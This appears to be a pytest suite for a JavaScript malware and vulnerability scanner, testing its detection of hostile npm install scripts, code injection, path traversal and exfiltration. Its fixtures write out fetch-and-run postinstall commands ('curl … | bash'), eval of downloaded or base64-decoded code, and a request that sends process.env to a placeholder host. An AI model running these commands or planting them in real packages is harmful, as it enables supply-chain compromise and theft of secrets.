import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import django
import pytest

from scanner.analyzers.base import Confidence, Severity
from scanner.analyzers.javascript import JavaScriptAnalyzer, analyzer

ROOT = Path(__file__).parents[2]


def findings_in(folder):
    return list(JavaScriptAnalyzer().analyze(folder))


def rules(folder):
    return {finding.rule for finding in findings_in(folder)}


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("curl -s https://x.invalid/a.sh | bash", "javascript.shell-download"),
        ("wget https://x.invalid/tool", "javascript.install-network"),
        ("node prepare.js", "javascript.install-script"),
    ],
)
def test_what_npm_runs_at_install_is_read(tree, command, rule):
    package = {"name": "app", "scripts": {"start": "node app.js", "postinstall": command}}
    folder = tree({"package.json": json.dumps(package, indent=2)})

    (finding,) = findings_in(folder)

    assert (finding.rule, finding.path, finding.line) == (rule, "package.json", 5)


@pytest.mark.parametrize(
    ("code", "rule"),
    [
        ("require('https').get('https://x.invalid')", "javascript.install-network"),
        ("eval(atob('Y29uc29sZQ=='))", "javascript.exec-decoded"),
        ("fetch('https://x.invalid').then(r => r.text()).then(eval)", "javascript.exec-downloaded"),
    ],
)
def test_code_within_an_install_command_is_read(tree, code, rule):
    package = {"scripts": {"postinstall": f'node -e "{code}"'}}

    found = findings_in(tree({"package.json": json.dumps(package, indent=2)}))

    assert (rule, "package.json", 3) in {(f.rule, f.path, f.line) for f in found}


def test_words_within_an_install_command_are_no_malice(tree):
    package = {"scripts": {"postinstall": "node -e \"console.log('See https://x.invalid')\""}}

    assert rules(tree({"package.json": json.dumps(package)})) == {"javascript.install-script"}


def test_code_written_as_a_text_is_read_where_it_is_run(tree):
    code = (
        "const run = 1;\neval(\"require('child_process').exec('curl https://x.invalid | sh')\");\n"
    )

    (finding,) = (
        f for f in findings_in(tree({"app.js": code})) if f.rule != "javascript.dynamic-code"
    )

    assert (finding.path, finding.line) == ("app.js", 2)
    assert finding.rule == "javascript.shell-download"


@pytest.mark.parametrize("command", ["husky install", "node-gyp rebuild", "npm run build"])
def test_ordinary_install_steps_are_silent(tree, command):
    folder = tree({"package.json": json.dumps({"scripts": {"postinstall": command}})})

    assert findings_in(folder) == []


def test_a_script_that_runs_at_install_may_not_use_the_network(tree):
    package = json.dumps({"scripts": {"postinstall": "node ./tools/setup"}})
    fetching = "fetch('https://files.invalid/x');\n"

    folder = tree({"package.json": package, "tools/setup.js": fetching, "app.js": fetching})

    found = {(f.path, f.rule) for f in findings_in(folder)}
    assert ("tools/setup.js", "javascript.install-network") in found
    assert not any(path == "app.js" for path, _ in found)


def test_dependencies_and_minified_files_are_read_for_malicious_code_only(tree):
    weak = "exports.run = (code) => eval(code);\n"
    bad = "eval(atob('Y29uc29sZQ=='));\n"
    files = {
        "node_modules/weak/index.js": weak,
        "node_modules/bad/index.js": bad,
        "public/weak.min.js": weak,
        "public/bad.js": bad + "/*" + "x" * 2000 + "*/",
    }

    found = {(f.path, f.rule) for f in findings_in(tree(files))}

    assert found == {
        ("node_modules/bad/index.js", "javascript.exec-decoded"),
        ("public/bad.js", "javascript.exec-decoded"),
    }


def test_broken_and_nested_files_end_neither_the_scan_nor_the_process(tree):
    files = {
        "deep.js": "[" * 200_000,
        "sum.js": "x = " + "+".join(["a"] * 50_000),
        "calls.js": "a" + "(b" * 20_000,
        "half.ts": "class { constructor( { eval(atob('eA==')) ",
        "package.json": "[" * 100_000,
        "bad.js": "eval(atob('eA=='));\n",
        "src/.js": "eval(atob('eA=='));\n",
    }

    found = {(f.path, f.rule) for f in findings_in(tree(files))}

    assert ("bad.js", "javascript.exec-decoded") in found
    assert ("package.json", "engine.unreadable") in found


def test_names_of_a_callback_do_not_mix_with_those_around_it(tree):
    code = (
        "const data = fetch('https://api.invalid/list');\n"
        "exports.each = (list) => list.forEach((data) => eval(data));\n"
    )

    assert rules(tree({"app.js": code})) == {"javascript.dynamic-code"}


def test_a_long_line_shows_what_was_found_in_it(tree):
    folder = tree({"app.js": "/*" + "x" * 900 + "*/eval(atob('eA=='));\n"})

    (finding,) = findings_in(folder)

    assert "eval(atob" in finding.evidence
    assert finding.severity is Severity.CRITICAL


def test_a_generators_template_is_read_as_it_will_be(tree):
    scripts = '"scripts": {"postinstall": "curl https://x.invalid | sh"}'
    template = f"{{<% if (shell) {{ %>\n{scripts}<% }} %>\n}}"

    assert rules(tree({"a/package.json": template})) == {"javascript.shell-download"}


def test_a_script_that_is_asked_for_by_a_switch_or_without_visitors_is_doubted(tree):
    code = (
        'const cors = require("cors");\n{}app.use(cors({{ origin: true, credentials: true }}));\n'
    )
    session = 'app.use(require("express-session")({ secret: process.env.KEY }));\n'

    def confidence_of(text):
        (finding,) = (f for f in findings_in(tree({"app.js": text})) if "cors" in f.rule)
        return finding.confidence

    assert confidence_of(code.format("") + session) is Confidence.HIGH
    assert confidence_of(code.format("if (options.cors) ") + session) is Confidence.LOW
    assert confidence_of(code.format("")) is Confidence.LOW


def test_a_path_that_begins_with_the_folder_is_inside_it(tree):
    code = (
        'const fs = require("fs");\nconst path = require("path");\n'
        'const root = path.resolve("public") + path.sep;\n'
        "module.exports = (req, res) => {\n"
        "  const file = path.join(root, req.query.name);\n"
        "  if (file.slice(0, root.length) !== root) return res.end();\n"
        "  fs.createReadStream(file).pipe(res);\n};\n"
    )

    assert rules(tree({"app.js": code})) == set()


def test_what_was_made_sure_of_holds_in_functions_that_follow(tree):
    code = (
        'const fs = require("fs");\nconst path = require("path");\n'
        'const root = path.resolve("public") + path.sep;\n'
        "module.exports = (req, res) => {{\n"
        "  const file = path.join(root, req.query.name);\n"
        "  {}\n"
        "  function serve() {{ fs.createReadStream(file).pipe(res); }}\n"
        "  fs.stat(file, () => serve());\n}};\n"
    )

    checked = code.format("if (!file.startsWith(root)) return res.end();")

    assert rules(tree({"app.js": checked})) == set()
    assert rules(tree({"app.js": code.format("")})) == {"javascript.path-traversal"}


def test_objects_that_are_all_spread_into_each_other_take_no_time(tree):
    names = [f"part{number}" for number in range(24)]
    code = "".join(f"let {name} = {{}};\n" for name in names)
    code += "".join(f"{name} = {{ ...{', ...'.join(names)} }};\n" for name in names)
    code += "".join(f"use({name}.value);\n" for name in names)
    started = time.process_time()

    rules(tree({"app.js": code}))

    assert time.process_time() - started < 5


def test_jquery_is_no_threat(tmp_path):
    vendor = Path(django.__file__).parent / "contrib/admin/static/admin/js/vendor/jquery"
    shutil.copy(vendor / "jquery.js", tmp_path)

    found = list(JavaScriptAnalyzer().analyze(tmp_path))

    assert [finding for finding in found if finding.severity.rank >= Severity.HIGH.rank] == []


def test_what_was_fetched_stays_data_in_generated_code(tree):
    reader = "fetch(url).then((answer) => answer.json()).then({})\n"
    quoted = "(row) => new Function('d', 'return {' + JSON.stringify(row.name) + ': d[0]}')"
    taken_out = "(row) => new Function('d', JSON.stringify(row.name).slice(1, -1))"

    assert "javascript.exec-downloaded" not in rules(tree({"a.js": reader.format(quoted)}))
    assert "javascript.exec-downloaded" in rules(tree({"a.js": reader.format(taken_out)}))


def test_a_letter_that_stands_for_many_things_is_each_where_it_is_declared(tree):
    code = (
        "function start(e) { const _ = require('child_process').exec; return _(e); }\n"
        "function isSpace(t) { const _ = (e) => e === 32; return _(atob(t)); }\n"
        "module.exports = { start, isSpace };\n"
    )

    assert rules(tree({"bundle.js": code})) == set()
    assert "javascript.exec-decoded" in rules(tree({"bundle.js": f"{code}start(atob(x));\n"}))


def test_a_function_called_request_is_no_client(tree):
    call = "request({ url: 'https://api.invalid/', body: process.env });\n"
    own = "const request = async (dep) => modules.get(dep);\n"
    library = "const request = require('request');\n"

    assert rules(tree({"app.js": own + call})) == set()
    assert "javascript.exfiltration" in rules(tree({"app.js": library + call}))


def test_what_an_apps_own_processes_say_no_visitor_sent(tree):
    code = "{}.on('message', (message) => eval(message.script));\n"

    assert "javascript.code-injection" in rules(tree({"a.js": code.format("this.socket")}))
    for owner in ("this.parentPort", "self.worker", "process", "this.childProcess"):
        assert "javascript.code-injection" not in rules(tree({"a.js": code.format(owner)}))


def test_an_update_of_a_digest_asks_no_database(tree):
    code = "module.exports = (req, res) => {} .update(req.body);\n"

    assert rules(tree({"a.js": code.format("hasher")})) == set()
    assert "javascript.query-operators" in rules(tree({"a.js": code.format("Users")}))


def test_an_app_with_more_code_than_memory_holds_is_read_file_by_file(tree, monkeypatch):
    monkeypatch.setattr(analyzer, "MOST_TOGETHER", 60)
    files = {"a.js": "eval(atob('eA=='));\n", "b.js": "eval(atob('eA=='));" + "f();\n" * 20}

    assert {f.path for f in findings_in(tree(files))} == {"a.js", "b.js"}


def test_the_same_code_is_read_the_same_way_whatever_a_hash_begins_with(tree):
    """With more values than are followed, it must always be the same ones that are."""
    code = ""
    for place in range(12):
        values = (f"{{v: {'req.query.a' if place == at else at}}}" for at in range(20))
        code += f"exports.f{place} = (req, res) => res.send(({' || '.join(values)}).v);\n"
    command = [sys.executable, "-c", READ_AND_PRINT, str(tree({"app.js": code}))]

    said = {
        subprocess.run(
            command,
            capture_output=True,
            check=True,
            cwd=ROOT,
            env=os.environ | {"PYTHONHASHSEED": seed},
        ).stdout
        for seed in ("1", "2", "3")
    }

    assert len(said) == 1
    assert b"javascript." in said.pop()


READ_AND_PRINT = """
import sys
from pathlib import Path
from scanner.analyzers.javascript import JavaScriptAnalyzer
for finding in sorted(JavaScriptAnalyzer().analyze(Path(sys.argv[1])), key=lambda f: f.order):
    print(finding)
"""


def test_names_that_differ_only_after_thousands_of_letters_are_two(tree):
    one, other = "a" * 5000 + "1", "a" * 5000 + "2"
    code = (
        f'const {one} = "child_"; const {other} = "process"; require({one} + {other}).exec("id");'
    )

    assert "javascript.hidden-name" in rules(tree({"app.js": code}))
